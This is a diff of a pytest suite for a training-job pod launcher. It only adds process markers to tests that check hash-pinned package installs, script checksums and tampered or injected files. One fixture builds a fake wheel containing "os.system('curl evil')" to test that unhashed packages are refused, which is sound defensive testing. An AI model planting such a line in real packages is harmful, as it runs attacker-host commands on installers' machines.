@@ -423,6 +423,7 @@ def pod_for(run: TrainingRun, tmp_path: Path) -> Pod:
     return pod
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_run_without_a_precompile_phase_goes_straight_to_training(
     matching_run: TrainingRun, tmp_path: Path
@@ -438,6 +439,7 @@ def test_a_run_without_a_precompile_phase_goes_straight_to_training(
     assert train["argv"][train["argv"].index("--rdzv_id") + 1] == "llm-job-uid-1234-v2"
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_first_attempt_installs_precompiles_then_trains(matching_run: TrainingRun, tmp_path: Path) -> None:
     pod = pod_for(matching_run, tmp_path)
@@ -460,6 +462,7 @@ def test_a_first_attempt_installs_precompiles_then_trains(matching_run: Training
     assert (output / "precompiled" / "replica-0").exists()
 
 
+@pytest.mark.process
 @needs_tools
 def test_precompile_is_skipped_only_when_every_replica_has_precompiled(
     matching_run: TrainingRun, tmp_path: Path
@@ -475,6 +478,7 @@ def test_precompile_is_skipped_only_when_every_replica_has_precompiled(
     assert [call["tool"] for call in calls] == ["python3", "python3"]
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_retry_resumes_from_the_runs_newest_checkpoint(matching_run: TrainingRun, tmp_path: Path) -> None:
     pod = pod_for(matching_run, tmp_path)
@@ -487,6 +491,7 @@ def test_a_retry_resumes_from_the_runs_newest_checkpoint(matching_run: TrainingR
     assert f"resuming {run_id(matching_run)}" in result.stdout
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_failed_data_set_ends_the_job_at_once_with_its_reason(tmp_path: Path) -> None:
     pod = Pod(tmp_path)
@@ -504,6 +509,7 @@ def test_a_failed_data_set_ends_the_job_at_once_with_its_reason(tmp_path: Path) 
     )
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_staging_pod_that_died_silently_ends_the_job_within_minutes(tmp_path: Path) -> None:
     pod = Pod(tmp_path)
@@ -519,6 +525,7 @@ def test_a_staging_pod_that_died_silently_ends_the_job_within_minutes(tmp_path: 
     assert "staging stopped" in result.stderr
 
 
+@pytest.mark.process
 @needs_tools
 def test_waiting_for_staging_is_bounded(tmp_path: Path) -> None:
     result, calls = Pod(tmp_path).run(WAIT_TIMEOUT_SECONDS="0")
@@ -526,6 +533,7 @@ def test_waiting_for_staging_is_bounded(tmp_path: Path) -> None:
     assert "gave up after 0s waiting for" in result.stderr
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_modified_script_is_never_run(tmp_path: Path) -> None:
     pod = Pod(tmp_path)
@@ -535,6 +543,7 @@ def test_a_modified_script_is_never_run(tmp_path: Path) -> None:
     assert "checksum mismatch" in result.stderr and "train.py: FAILED" in result.stderr
 
 
+@pytest.mark.process
 @needs_tools
 def test_packages_that_do_not_match_their_hashes_end_the_job(
     matching_run: TrainingRun, tmp_path: Path
@@ -544,6 +553,7 @@ def test_packages_that_do_not_match_their_hashes_end_the_job(
     assert [call["tool"] for call in calls] == ["python3"]
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_compile_cache_held_by_another_run_is_not_shared(matching_run: TrainingRun, tmp_path: Path) -> None:
     pod = pod_for(matching_run, tmp_path)
@@ -560,6 +570,7 @@ def test_a_compile_cache_held_by_another_run_is_not_shared(matching_run: Trainin
     assert [call["tool"] for call in calls] == ["python3"]
 
 
+@pytest.mark.process
 @needs_tools
 def test_the_pod_refuses_to_run_without_the_replica_index(tmp_path: Path) -> None:
     result, calls = Pod(tmp_path).run(index="")
@@ -640,6 +651,7 @@ def checked(matching_run: TrainingRun, tmp_path: Path) -> CheckedPod:
     return CheckedPod(tmp_path / "pod", run, wheels)
 
 
+@pytest.mark.process
 @needs_tools
 def test_checked_packages_install_by_hash_and_come_first_on_the_path(checked: CheckedPod) -> None:
     result, calls = checked.run()
@@ -651,6 +663,7 @@ def test_checked_packages_install_by_hash_and_come_first_on_the_path(checked: Ch
     assert calls[-1]["PYTHONPATH"].split(":")[0] == str(site)
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_second_attempt_verifies_the_installed_tree_and_reuses_it(checked: CheckedPod) -> None:
     assert checked.run()[0].returncode == 0
@@ -660,6 +673,7 @@ def test_a_second_attempt_verifies_the_installed_tree_and_reuses_it(checked: Che
     assert calls[-1]["argv"][:2] == ["-m", "torch.distributed.run"]
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_tampered_installed_package_file_is_refused(checked: CheckedPod) -> None:
     assert checked.run()[0].returncode == 0
@@ -673,6 +687,7 @@ def test_a_tampered_installed_package_file_is_refused(checked: CheckedPod) -> No
     )
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_file_added_to_the_installed_tree_is_refused(checked: CheckedPod) -> None:
     assert checked.run()[0].returncode == 0
@@ -684,6 +699,7 @@ def test_a_file_added_to_the_installed_tree_is_refused(checked: CheckedPod) -> N
     assert checked.reason().startswith(f"installed Python package file {site}/evil.pth ")
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_changed_package_list_installs_into_a_directory_of_its_own(
     checked: CheckedPod, matching_run: TrainingRun, tmp_path: Path
@@ -702,6 +718,7 @@ def test_a_changed_package_list_installs_into_a_directory_of_its_own(
     assert (second / "tinypkg" / "__init__.py").read_text() == "VALUE = 2\n"
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_wheel_that_does_not_have_its_hash_is_refused(checked: CheckedPod) -> None:
     _wheel(checked.wheels, body="import os; os.system('curl evil')\n")  # same name, other bytes
@@ -711,6 +728,7 @@ def test_a_wheel_that_does_not_have_its_hash_is_refused(checked: CheckedPod) -> 
     assert "THESE PACKAGES DO NOT MATCH THE HASHES" in result.stderr
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_tampered_script_is_refused_with_its_reason(checked: CheckedPod, matching_run: TrainingRun) -> None:
     script = checked.pod.path(matching_run.datasets[0].path("train.py"))
@@ -720,6 +738,7 @@ def test_a_tampered_script_is_refused_with_its_reason(checked: CheckedPod, match
     assert checked.reason() == f"checksum mismatch: {script}: FAILED"
 
 
+@pytest.mark.process
 @needs_tools
 def test_an_unchecked_module_beside_the_script_is_refused(
     checked: CheckedPod, matching_run: TrainingRun
@@ -731,6 +750,7 @@ def test_an_unchecked_module_beside_the_script_is_refused(
     assert checked.reason() == f"unchecked importable file {script.parent}/torch.py beside the script"
 
 
+@pytest.mark.process
 @needs_tools
 def test_a_data_set_marker_of_another_version_is_refused(
     checked: CheckedPod, matching_run: TrainingRun
